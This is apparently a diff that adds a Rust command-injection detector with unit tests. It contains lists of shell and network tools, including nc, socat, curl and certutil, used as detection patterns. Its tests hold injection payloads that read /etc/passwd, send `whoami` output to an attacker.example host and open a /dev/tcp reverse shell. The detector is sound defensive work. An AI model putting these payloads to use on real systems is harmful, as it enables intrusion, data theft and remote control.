@@ -1,0 +1,280 @@
+//! OS command injection: a shell tokenizer that finds command positions
+//! (after `;`, `|`, `||`, `&`, `&&`, newlines, inside `$(...)`, backticks,
+//! `{a,b}` brace groups, or at the start of the value), normalises the command
+//! word the way a shell would (quotes, backslashes, empty substitutions,
+//! `${IFS}`, directories), and requires a real command with shell-shaped
+//! arguments. Common English words that are also commands (`cat`, `echo`,
+//! `ping`, `type`) need an argument that only a shell user writes (a flag, a
+//! path, an address, a substitution or a redirection).
+
+use super::{Attack, Hit};
+
+/// Commands that almost never appear as plain words in text.
+const STRONG: &[&str] = &[
+    "whoami", "uname", "ifconfig", "ipconfig", "nslookup", "wget", "curl", "ncat", "netcat",
+    "bash", "zsh", "ksh", "csh", "tcsh", "dash", "powershell", "pwsh", "cmd", "perl", "python",
+    "python2", "python3", "php", "ruby", "telnet", "chmod", "chown", "systeminfo", "tasklist",
+    "certutil", "bitsadmin", "base64", "xterm", "socat", "busybox", "tftp", "passwd", "netstat",
+    "nmap", "useradd", "crontab", "sudo", "wmic", "rundll32", "regsvr32", "mshta", "cscript",
+    "wscript", "hostname", "dig", "traceroute", "tracert", "getent", "lsof", "iptables", "xxd",
+    "nohup", "mkfifo", "sh", "nc", "uname", "id", "pwd",
+];
+
+/// Commands that are also English words (or too short) and need shell-shaped arguments.
+const WEAK: &[&str] = &[
+    "cat", "ls", "echo", "ping", "type", "dir", "more", "less", "head", "tail", "find", "touch",
+    "kill", "ps", "env", "set", "sleep", "rm", "cp", "mv", "mkdir", "grep", "awk", "sed", "net",
+    "ver", "whoami", "printf", "expr", "timeout", "tac", "nl", "od", "strings", "sort", "uniq",
+    "wc", "cut", "tee", "file", "stat", "which", "who", "w", "last", "uptime", "ssh", "scp",
+    "ftp", "java", "node", "npm", "git", "tar", "zip", "unzip", "gzip", "eval", "exec", "source",
+    "export", "chmod", "start", "call", "copy", "del", "net1", "reg", "sc", "at", "schtasks",
+    "powershell.exe", "cmd.exe",
+];
+
+/// Normalises a shell word: drops quotes, backslashes, `$@`/`$*`, empty
+/// backticks and `${IFS}`-like expansions, keeps the basename.
+fn norm_word(w: &str) -> String {
+    let b = w.as_bytes();
+    let mut out = String::with_capacity(w.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'\'' | b'"' | b'\\' | b'^' => i += 1,
+            b'`' if b.get(i + 1) == Some(&b'`') => i += 2,
+            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'9' | b'0'..=b'8')) => i += 2,
+            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => i += 3,
+            c => {
+                out.push(c.to_ascii_lowercase() as char);
+                i += 1;
+            }
+        }
+    }
+    match out.rfind(['/', '\\']) {
+        Some(p) => out[p + 1..].to_string(),
+        None => out,
+    }
+}
+
+fn is_word_byte(c: u8) -> bool {
+    !matches!(
+        c,
+        b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'{' | b'}' | b','
+    ) && c != 0
+}
+
+/// Skips blanks and `${IFS}` / `$IFS` / `%09`-style separators.
+fn skip_blanks(b: &[u8], mut i: usize) -> usize {
+    loop {
+        while i < b.len() && matches!(b[i], b' ' | b'\t' | 0x0b | 0x0c) {
+            i += 1;
+        }
+        if b[i..].starts_with(b"${IFS}") {
+            i += 6;
+            continue;
+        }
+        if b[i..].starts_with(b"$IFS") {
+            i += 4;
+            if b[i..].starts_with(b"$9") {
+                i += 2;
+            }
+            continue;
+        }
+        return i;
+    }
+}
+
+fn shellish_arg(arg: &str) -> bool {
+    let a = arg.trim_matches(|c| c == '\'' || c == '"');
+    if a.is_empty() {
+        return false;
+    }
+    let b = a.as_bytes();
+    (b[0] == b'-' && b.len() > 1 && b[1].is_ascii_alphanumeric())
+        || b[0] == b'/'
+        || a.starts_with("./")
+        || a.starts_with("../")
+        || a.starts_with('~')
+        || b[0] == b'$'
+        || b[0] == b'`'
+        || (b.len() > 2 && b[1] == b':' && (b[2] == b'\\' || b[2] == b'/'))
+        || a.starts_with("\\\\")
+        || (b[0] == b'/' && b.len() > 1)
+        || is_host_like(a)
+        || (b[0] == b'>' || b[0] == b'<')
+}
+
+fn is_host_like(a: &str) -> bool {
+    // dotted address or name with a dot and no spaces: 127.0.0.1, evil.com, x.burpcollaborator.net
+    let dots = a.bytes().filter(|&c| c == b'.').count();
+    dots >= 1
+        && a.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-' || c == b':' || c == b'`' || c == b'$')
+        && a.as_bytes()[0].is_ascii_alphanumeric()
+        && !a.ends_with('.')
+        && (a.bytes().filter(|c| c.is_ascii_digit()).count() >= 4 || dots >= 2 || a.contains('`'))
+}
+
+/// Checks the command at `i` (a command position). Returns a confidence.
+fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
+    let b = s.as_bytes();
+    let start = skip_blanks(b, i);
+    if start >= b.len() {
+        return None;
+    }
+    let mut j = start;
+    while j < b.len() && is_word_byte(b[j]) {
+        if b[j] == b'$' && b.get(j + 1) == Some(&b'{') {
+            break;
+        }
+        j += 1;
+    }
+    // `${IFS}` may glue command and argument
+    let word = &s[start..j];
+    if word.is_empty() || word.len() > 64 {
+        return None;
+    }
+    let cmd = norm_word(word);
+    let cmd = cmd.strip_suffix(".exe").unwrap_or(&cmd).to_string();
+    let strong = STRONG.contains(&cmd.as_str());
+    let weak = WEAK.contains(&cmd.as_str());
+    if !strong && !weak {
+        return None;
+    }
+    // first argument
+    let k = skip_blanks(b, j);
+    let glued_ifs = k > j && b[j..k].contains(&b'$');
+    let mut ae = k;
+    while ae < b.len() && (is_word_byte(b[ae]) || b[ae] == b'<' || b[ae] == b'>') {
+        ae += 1;
+    }
+    let arg = &s[k..ae];
+    let at_end = k >= b.len() || matches!(b[k], b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'`' | b'#');
+    let redirect = k < b.len() && (b[k] == b'>' || b[k] == b'<');
+    let shell_arg = shellish_arg(arg) || glued_ifs || redirect;
+    let conf = if after_sep {
+        if strong && (at_end || shell_arg || !arg.is_empty()) {
+            if at_end || shell_arg {
+                90
+            } else {
+                70
+            }
+        } else if shell_arg || (at_end && cmd.len() >= 2 && !matches!(cmd.as_str(), "set" | "at" | "start" | "call" | "file" | "sort" | "last" | "type" | "more" | "less" | "w" | "who" | "export" | "source" | "exec" | "eval" | "copy" | "del" | "net" | "ver")) {
+            85
+        } else {
+            0
+        }
+    } else if shell_arg && (strong || arg.starts_with('/') || arg.starts_with('-') || glued_ifs) {
+        if cmd.len() <= 2 && !glued_ifs && !arg.starts_with('/') {
+            0
+        } else {
+            70
+        }
+    } else {
+        0
+    };
+    (conf > 0).then_some((conf, ae.max(j)))
+}
+
+/// Runs the command-injection detector.
+pub fn detect(s: &str) -> Option<Hit> {
+    let b = s.as_bytes();
+    let mut best: Option<Hit> = None;
+    let consider = |pos: usize, after_sep: bool, best: &mut Option<Hit>| {
+        if let Some((c, e)) = command_at(s, pos, after_sep) {
+            if best.as_ref().is_none_or(|h| h.confidence < c) {
+                *best = Some(Hit::new(Attack::Cmdi, c, s, pos.saturating_sub(1), e));
+            }
+        }
+    };
+    consider(0, false, &mut best);
+    let mut i = 0;
+    let mut n = 0;
+    while i < b.len() && n < 256 {
+        let c = b[i];
+        let next = match c {
+            b';' | b'\n' | b'\r' => Some(i + 1),
+            b'|' | b'&' => {
+                let mut j = i + 1;
+                if j < b.len() && b[j] == c {
+                    j += 1;
+                }
+                Some(j)
+            }
+            b'`' => Some(i + 1),
+            b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
+            b'{' if i == 0 || b[i - 1] != b'$' => {
+                // brace expansion {cat,/etc/passwd}
+                let rest = &s[i + 1..];
+                if let Some(comma) = rest.find(',') {
+                    let cmd = norm_word(&rest[..comma]);
+                    if STRONG.contains(&cmd.as_str()) || WEAK.contains(&cmd.as_str()) {
+                        let arg = &rest[comma + 1..];
+                        if shellish_arg(arg.split(['}', ',']).next().unwrap_or("")) {
+                            let h = Hit::new(Attack::Cmdi, 85, s, i, i + 1 + comma + 12);
+                            if best.as_ref().is_none_or(|x| x.confidence < 85) {
+                                best = Some(h);
+                            }
+                        }
+                    }
+                }
+                None
+            }
+            _ => None,
+        };
+        if let Some(p) = next {
+            n += 1;
+            consider(p, true, &mut best);
+            i = p.max(i + 1);
+        } else {
+            i += 1;
+        }
+    }
+    best
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(s: &str) -> bool {
+        detect(s).is_some_and(|h| h.confidence >= 60)
+    }
+
+    #[test]
+    fn attacks() {
+        for a in [
+            "127.0.0.1; whoami",
+            "127.0.0.1;wh``oami",
+            "x||ping -c 10 127.0.0.1||",
+            "||nslookup `whoami`.attacker.example||",
+            "; cat /etc/passwd",
+            "$(id)",
+            "`uname -a`",
+            "cat${IFS}/etc/passwd",
+            "| dir c:\\",
+            "a && w'h'o'am'i",
+            "{cat,/etc/passwd}",
+            "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+        ] {
+            assert!(hit(a), "missed {a}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for b in [
+            "echo in the mirror",
+            "curl and divergence",
+            "bash away in the gym",
+            "zsh is the best!",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "exec noun",
+            "Tom & Jerry; then we eat",
+            "hello; cat food is great",
+            "Q&A | more info",
+            "salt & pepper",
+        ] {
+            assert!(!hit(b), "false positive on {b}: {:?}", detect(b));
+        }
+    }
+}
